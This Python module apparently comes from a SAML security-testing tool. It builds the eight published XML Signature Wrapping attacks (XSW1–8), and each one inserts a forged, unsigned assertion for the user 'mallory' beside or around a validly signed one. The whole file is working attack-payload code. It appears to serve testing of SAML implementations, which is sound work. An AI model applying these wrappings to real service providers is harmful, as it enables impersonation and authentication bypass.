"""Signature wrapping: signed messages into which somebody has put an assertion of their own, so that what was signed is still there.

The eight attacks (XSW 1 to 8) are those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), in the
shapes that SAML Raider gave them. The first two are made of a signed response, the others of a signed assertion.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from copy import deepcopy
from types import MappingProxyType
from typing import Final

from .elements import DS, NAMES, Element, new_id, reread, samlp

FORGED: Final = "mallory"
"""Whom the assertions claim that nobody has signed; whoever is let in as this one has been deceived."""


def _forge(assertion: Element) -> Element:
    for name_id in assertion.iterfind(".//saml:NameID", NAMES):
        name_id.text = FORGED
    return assertion


def _without_signature(element: Element) -> Element:
    """A copy without its own signature."""
    copy = deepcopy(element)
    copy.remove(copy.find("ds:Signature", NAMES))
    return copy


def _response_in_signature(root: Element) -> None:
    original = _without_signature(root)
    root.find("ds:Signature", NAMES).append(original)
    _forge(root.find("saml:Assertion", NAMES))
    root.set("ID", new_id())


def _response_before_signature(root: Element) -> None:
    original = _without_signature(root)
    root.find("ds:Signature", NAMES).addprevious(original)
    _forge(root.find("saml:Assertion", NAMES))
    root.set("ID", new_id())


def _evil_before(root: Element) -> None:
    signed = root.find("saml:Assertion", NAMES)
    evil = _forge(_without_signature(signed))
    evil.set("ID", new_id())
    signed.addprevious(evil)


def _evil_around(root: Element) -> None:
    signed = root.find("saml:Assertion", NAMES)
    evil = _forge(_without_signature(signed))
    evil.set("ID", new_id())
    signed.addprevious(evil)
    evil.append(signed)


def _signature_on_evil(root: Element) -> None:
    evil = root.find("saml:Assertion", NAMES)
    root.append(_without_signature(evil))
    _forge(evil).set("ID", new_id())


def _original_in_signature(root: Element) -> None:
    evil = root.find("saml:Assertion", NAMES)
    original = _without_signature(evil)
    evil.find("ds:Signature", NAMES).append(original)
    _forge(evil).set("ID", new_id())


def _evil_in_extensions(root: Element) -> None:
    """With the identifier of the original: elements of extensions are not validated as strictly."""
    evil = _forge(_without_signature(root.find("saml:Assertion", NAMES)))
    root.find("samlp:Status", NAMES).addprevious(samlp.Extensions(evil))


def _original_in_object(root: Element) -> None:
    """With the identifier of the original, which hides in the signature's own object."""
    evil = root.find("saml:Assertion", NAMES)
    original, signature = _without_signature(evil), evil.find("ds:Signature", NAMES)
    holder = signature.makeelement(f"{{{DS}}}Object")
    holder.append(original)
    signature.append(holder)
    _forge(evil)


WRAPPINGS: Final[Mapping[str, tuple[Callable[[Element], None], str, str]]] = MappingProxyType(
    {
        "xsw1": (_response_in_signature, "response", "the signed response is inside the signature of a forged one"),
        "xsw2": (_response_before_signature, "response", "the signed response stands before its signature in a forged one"),
        "xsw3": (_evil_before, "assertion", "a forged assertion stands before the signed one"),
        "xsw4": (_evil_around, "assertion", "a forged assertion is around the signed one"),
        "xsw5": (_signature_on_evil, "assertion", "a forged assertion carries the signature, the signed one stands at the end"),
        "xsw6": (_original_in_signature, "assertion", "a forged assertion carries the signature, the signed one is inside it"),
        "xsw7": (_evil_in_extensions, "assertion", "a forged assertion with the same identifier is in the extensions"),
        "xsw8": (_original_in_object, "assertion", "a forged assertion carries the signature, the signed one is in its object"),
    }
)
"""Each by name: what it does, what must be signed for it, and what it is in words."""


def wrapped(root: Element, name: str) -> Element:
    """The signed response after that attack, read anew."""
    WRAPPINGS[name][0](root)
    return reread(root)
